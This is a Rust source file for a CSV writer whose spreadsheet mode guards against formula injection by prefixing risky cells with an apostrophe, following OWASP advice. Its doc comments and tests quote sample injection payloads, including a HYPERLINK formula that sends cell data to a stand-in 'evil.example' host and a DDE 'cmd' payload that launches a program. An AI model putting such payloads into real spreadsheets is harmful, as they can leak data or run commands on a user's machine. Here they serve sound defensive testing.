//! CSV as the crate writes it ([`CsvWriter`]): RFC 4180, for programs or for
//! spreadsheets. The data package's tables ([`Table::to_csv`](crate::Table::to_csv)) are
//! for programs, and the command line's `--format csv` for spreadsheets; both are
//! written here, so the two agree on quoting and differ only where a spreadsheet would
//! run a cell.

use std::borrow::Cow;

/// Writes CSV records (RFC 4180) into a string: cells separated by `,`, a record ended by
/// CRLF (or LF, with [`CsvWriter::with_line_feeds`]); a cell that holds `,`, `"`, CR or
/// LF, or starts or ends with a space, is quoted, its `"` doubled; a record of one empty
/// cell is `""`, so that it is no blank line.
///
/// A writer [`for programs`](CsvWriter::new) writes each cell exactly as it is. One [`for
/// spreadsheets`](CsvWriter::for_spreadsheets) follows OWASP's advice against formula
/// injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return,
/// which a spreadsheet would read as a formula (`=HYPERLINK(…)`, `+cmd|' /C calc'!A0`,
/// `@SUM(1+1)`), is written with a `'` before it and quoted, so the spreadsheet shows it
/// as text; a negative number (`-5`, `-0.5`), which a spreadsheet reads as the number and
/// not as a formula, is left as it is.
///
/// ```
/// use wuzhong_plan::CsvWriter;
/// let mut programs = CsvWriter::new();
/// programs.record(["title", "lead"]);
/// programs.record(["=1+2", "市民政局, 財政局"]);
/// assert_eq!(programs.finish(), "title,lead\r\n=1+2,\"市民政局, 財政局\"\r\n");
///
/// let mut people = CsvWriter::for_spreadsheets().with_line_feeds();
/// people.record(["@SUM(1+1)", "-5", "-1+2", "市民政局"]);
/// assert_eq!(people.finish(), "\"'@SUM(1+1)\",-5,\"'-1+2\",市民政局\n");
/// ```
#[derive(Debug, Clone, Default)]
pub struct CsvWriter {
    out: String,
    /// Whether a cell a spreadsheet would read as a formula is written as text.
    spreadsheet: bool,
    /// Whether records end with LF rather than CRLF.
    line_feeds: bool,
}

impl CsvWriter {
    /// A writer for programs: each cell exactly as it is.
    pub fn new() -> CsvWriter {
        CsvWriter::default()
    }

    /// A writer for spreadsheets: a cell a spreadsheet would read as a formula is
    /// written with a `'` before it, and quoted.
    pub fn for_spreadsheets() -> CsvWriter {
        CsvWriter {
            spreadsheet: true,
            ..CsvWriter::default()
        }
    }

    /// The same writer, ending each record with LF rather than CRLF.
    pub fn with_line_feeds(self) -> CsvWriter {
        CsvWriter {
            line_feeds: true,
            ..self
        }
    }

    /// Writes one record, its cells in order.
    pub fn record<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut count = 0;
        let mut last_empty = false;
        for cell in cells {
            let cell = cell.as_ref();
            if count > 0 {
                self.out.push(',');
            }
            count += 1;
            last_empty = cell.is_empty();
            let formula = self.spreadsheet && is_formula(cell);
            let cell = if formula {
                Cow::Owned(format!("'{cell}"))
            } else {
                Cow::Borrowed(cell)
            };
            let quote = formula
                || cell.contains([',', '"', '\r', '\n'])
                || cell.starts_with(' ')
                || cell.ends_with(' ');
            if quote {
                self.out.push('"');
                self.out.push_str(&cell.replace('"', "\"\""));
                self.out.push('"');
            } else {
                self.out.push_str(&cell);
            }
        }
        if count == 1 && last_empty {
            self.out.push_str("\"\"");
        }
        self.out
            .push_str(if self.line_feeds { "\n" } else { "\r\n" });
    }

    /// The CSV written.
    pub fn finish(self) -> String {
        self.out
    }
}

/// Whether a spreadsheet would read `cell` as a formula: it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, and is not a negative number.
fn is_formula(cell: &str) -> bool {
    match cell.chars().next() {
        Some('=' | '+' | '@' | '\t' | '\r') => true,
        Some('-') => !is_negative_number(cell),
        _ => false,
    }
}

/// Whether `cell` is `-` and a decimal number: digits, and at most one `.` between
/// digits (`-5`, `-0.5`).
fn is_negative_number(cell: &str) -> bool {
    let Some(number) = cell.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = number.split_once('.').unwrap_or((number, "1"));
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spreadsheet(cells: &[&str]) -> String {
        let mut writer = CsvWriter::for_spreadsheets();
        writer.record(cells);
        writer.finish()
    }

    #[test]
    fn a_formula_is_text_for_a_spreadsheet() {
        assert_eq!(
            spreadsheet(&[r#"=HYPERLINK("http://evil.example/"&A1,"click")"#]),
            "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\"\r\n"
        );
        assert_eq!(
            spreadsheet(&["+cmd|' /C calc'!A0"]),
            "\"'+cmd|' /C calc'!A0\"\r\n"
        );
        assert_eq!(spreadsheet(&["\tx", "\rx"]), "\"'\tx\",\"'\rx\"\r\n");
        assert_eq!(
            spreadsheet(&["-", "--5", "-5.", "-.5", "-5e3"]),
            "\"'-\",\"'--5\",\"'-5.\",\"'-.5\",\"'-5e3\"\r\n"
        );
        // A negative number is a number; a formula character after the first, and the
        // full-width forms, are no formula.
        assert_eq!(
            spreadsheet(&["-5", "-0.25", "1+2", "＝1+2", " =1"]),
            "-5,-0.25,1+2,＝1+2,\" =1\"\r\n"
        );
    }

    #[test]
    fn for_programs_each_cell_is_as_it_is() {
        let mut writer = CsvWriter::new();
        writer.record(["=1+2", "@SUM(1+1)", "a,b", "say \"hi\"", " x", "甲\n乙"]);
        writer.record([""]);
        writer.record(["", ""]);
        assert_eq!(
            writer.finish(),
            "=1+2,@SUM(1+1),\"a,b\",\"say \"\"hi\"\"\",\" x\",\"甲\n乙\"\r\n\"\"\r\n,\r\n"
        );
    }
}
